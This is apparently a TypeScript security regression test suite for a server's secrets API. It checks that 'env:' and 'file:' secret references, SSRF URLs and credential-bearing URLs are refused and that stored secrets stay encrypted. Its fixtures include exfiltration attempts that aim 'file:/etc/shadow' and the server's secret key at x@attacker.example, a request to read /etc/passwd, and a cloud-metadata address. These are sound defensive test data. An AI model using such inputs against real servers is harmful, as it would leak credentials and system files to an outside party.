import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../src/db/client.js';
import { resolveSecret } from '../../src/secrets/index.js';
import { SECRET_KEY, type SecurityServer, startSecurityServer } from './server.js';

const PUBLIC_HOOK = 'https://93.184.216.34/services/T0/B0/hooksecretpath';

/**
 * Finding 2: secrets given over the API as `env:VAR` or `file:/path` were resolved in the server
 * and sent to a host the caller chose (UNSHADOW_SECRET_KEY, /etc/shadow), and errors told
 * whether a path existed. Over the API a secret is a value, stored encrypted and bound to its row.
 */
describe('secrets over the API', () => {
  let server: SecurityServer;
  let keyless: SecurityServer;
  beforeAll(async () => {
    server = await startSecurityServer();
    keyless = await startSecurityServer({ UNSHADOW_SECRET_KEY: '' }, { demo: false });
  }, 60_000);
  afterAll(async () => {
    await server?.stop();
    await keyless?.stop();
  });

  it('refuses env: and file: references in alert rules, the same way whether the file exists or not', async () => {
    const attempts = [
      { name: 'leak-key', channel: 'email', host: '93.184.216.34', from: 'a@b.example', to: ['x@attacker.example'], user: 'u', password: 'env:UNSHADOW_SECRET_KEY' },
      { name: 'leak-shadow', channel: 'email', host: '93.184.216.34', from: 'a@b.example', to: ['x@attacker.example'], user: 'u', password: 'file:/etc/shadow' },
      { name: 'leak-missing', channel: 'email', host: '93.184.216.34', from: 'a@b.example', to: ['x@attacker.example'], user: 'u', password: 'file:/no/such/file' },
      { name: 'leak-hook', channel: 'webhook', url: 'env:PATH', signingSecret: 'x' },
    ];
    const errors: string[] = [];
    for (const body of attempts) {
      const response = await server.call('POST', '/api/alerts/rules', { token: server.tokens.security, body });
      expect(response.status, body.name).toBe(400);
      errors.push(((await response.json()) as { error: string }).error);
    }
    // An existing file and a missing one get the same answer: nothing is read or stat'ed.
    expect(errors[1]).toBe(errors[2]);
    for (const error of errors) expect(error).toMatch(/: env: and file: references name the server's own environment and files, which only the operator may use$/);
    expect(errors.join(' ')).not.toMatch(/ENOENT|EISDIR|EACCES/);
    const rules = (await (await server.call('GET', '/api/alerts/rules', { token: server.tokens.viewer })).json()) as { items: unknown[] };
    expect(rules.items).toHaveLength(0);
  });

  it('refuses references in connection secrets, and URL options that carry credentials or reach inside', async () => {
    const reference = await server.call('POST', '/api/connections', {
      token: server.tokens.admin,
      body: { kind: 'github', name: 'gh', options: { org: 'acme', apiUrl: 'https://api.github.com' }, secrets: { token: 'env:UNSHADOW_SECRET_KEY' } },
    });
    expect(reference.status).toBe(400);
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ org: 'acme', apiUrl: 'https://user:pass@api.github.com' }, /API URL must not carry a user name or password/],
      [{ org: 'acme', apiUrl: 'http://127.0.0.1:9/api' }, /refused to connect to 127\.0\.0\.1 \(127\.0\.0\.1\): it is a loopback address/],
      [{ org: 'acme', apiUrl: 'http://169.254.169.254/latest' }, /it is a link local address/],
      [{ org: 'acme', apiUrl: 'http://[::ffff:10.0.0.1]/api' }, /it is a private address/],
    ];
    for (const [options, message] of cases) {
      const response = await server.call('POST', '/api/connections', { token: server.tokens.admin, body: { kind: 'github', name: 'gh', options, secrets: { token: 'ghp_value' } } });
      expect(response.status, JSON.stringify(options)).toBe(400);
      expect(((await response.json()) as { error: string }).error).toMatch(message);
    }
    const file = await server.call('POST', '/api/connections', { token: server.tokens.admin, body: { kind: 'expenses', name: 'cards', options: { file: '/etc/passwd' } } });
    expect(file.status).toBe(400);
    expect(((await file.json()) as { error: string }).error).toBe("a connection of kind 'expenses' reads a file on the server, so only the operator can add one");
  });

  it('stores a value encrypted and bound to its row: never shown, unusable in another row', async () => {
    const added = await server.call('POST', '/api/connections', { token: server.tokens.admin, body: { kind: 'github', name: 'gh-ok', options: { org: 'acme' }, secrets: { token: 'ghp_supersecretvalue' } } });
    expect(added.status).toBe(200);
    const other = await server.call('POST', '/api/connections', { token: server.tokens.admin, body: { kind: 'github', name: 'gh-other', options: { org: 'acme' }, secrets: { token: 'ghp_othervalue' } } });
    expect(other.status).toBe(200);
    for (const role of ['viewer', 'admin'] as const) {
      const listed = await (await server.call('GET', '/api/connections', { token: server.tokens[role] })).text();
      expect(listed).toContain('"token":"stored encrypted"');
      expect(listed).not.toContain('ghp_supersecretvalue');
    }
    const rows = await queryRows<{ id: string; name: string; secrets: { token: string } }>(server.database.db, sql`select id, name, secrets from connections where name in ('gh-ok', 'gh-other') order by name`);
    expect(JSON.stringify(rows)).not.toContain('ghp_');
    const [mine, theirs] = rows as [(typeof rows)[number], (typeof rows)[number]];
    expect(resolveSecret({ table: 'connections', id: mine.id, option: 'token' }, mine.secrets.token, {}, SECRET_KEY)).toBe('ghp_supersecretvalue');
    // A database writer who copies one row's ciphertext into another row gets nothing from it.
    expect(() => resolveSecret({ table: 'connections', id: theirs.id, option: 'token' }, mine.secrets.token, {}, SECRET_KEY)).toThrow(/cannot be decrypted/);
  });

  it('without UNSHADOW_SECRET_KEY refuses secret values with a message saying what the operator must do', async () => {
    const response = await keyless.call('POST', '/api/alerts/rules', { token: keyless.tokens.security, body: { name: 'hook', channel: 'slack', url: PUBLIC_HOOK } });
    expect(response.status).toBe(400);
    const body = (await response.json()) as { error: string; hint: string };
    expect(body.error).toBe('url cannot be stored: this server has no UNSHADOW_SECRET_KEY to encrypt secrets with');
    expect(body.hint).toMatch(/Ask the operator to set UNSHADOW_SECRET_KEY/);
    expect(JSON.stringify(body)).not.toContain('hooksecretpath');
  });
});
